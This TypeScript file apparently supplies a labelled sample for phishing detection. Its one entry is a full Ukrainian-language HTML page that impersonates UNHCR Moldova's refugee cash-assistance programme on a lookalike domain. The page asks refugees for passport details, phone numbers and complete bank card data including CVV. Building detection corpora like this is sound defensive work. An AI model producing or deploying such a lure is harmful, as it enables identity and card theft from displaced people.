import { htmlRoute, type Entry } from '../entry.js';
import { doc, cardCss, mark, uaFlag, cardIcons, luhnJs, cardFormatJs } from '../parts/ym-kit.js';

export const entries: Entry[] = [
{
  id: 'ym-unhcr-moldova-cash-assistance',
  label: 'phishing',
  kind: 'aid-kit',
  url: 'https://unhcr-md-assistance.org/ua/register',
  body: doc({
    lang: 'uk',
    title: 'UNHCR Moldova — Грошова допомога для біженців з України',
    css: cardCss('#0072bc', '#eef4fa') + `.card{max-width:600px}.lang a{margin-left:10px;font-size:13px;color:#0072bc}.box{background:#eaf3fb;padding:12px 14px;border-radius:8px;font-size:14px;margin-bottom:16px}`,
    body: `<header class="top">${mark('UN', '#0072bc', 'UNHCR · The UN Refugee Agency', { w: 300, round: 17 })}<span class="lang"><a href="#">UA</a><a href="#">RO</a><a href="#">RU</a><a href="#">EN</a></span></header>
<main><div class="card">
<h1>Реєстрація на отримання грошової допомоги</h1>
<p class="sub">Програма багатоцільової грошової допомоги для осіб, які прибули з України до Республіки Молдова. Розмір виплати — 2 200 MDL на особу щомісяця протягом 3 місяців.</p>
<div class="box">Реєстрацію буде закрито 31 числа. Виплата надходить на банківську картку протягом 48 годин після перевірки.</div>
<form method="post" action="/ua/register/save">
<div class="row"><div class="field"><label>Прізвище</label><input name="last" required></div><div class="field"><label>Ім'я</label><input name="first" required></div></div>
<div class="row"><div class="field"><label>Номер паспорта</label><input name="passport" required></div><div class="field"><label>Дата народження</label><input name="dob" type="date" required></div></div>
<div class="field"><label>Кількість членів родини</label><select name="family"><option>1</option><option>2</option><option>3</option><option>4</option><option>5+</option></select></div>
<div class="field"><label>Телефон (Viber/Telegram)</label><input name="phone" type="tel" required></div>
<div class="field"><label>Номер картки (українського або молдовського банку)</label><input name="card" inputmode="numeric" required></div>
<div class="row"><div class="field"><label>Термін дії</label><input name="exp" required></div><div class="field"><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
<button class="btn">Надіслати заявку</button></form>
</div></main>
<footer class="bottom">UNHCR Representation in the Republic of Moldova · 131, 31 August 1989 Str., Chișinău</footer>`,
  }),
},
];
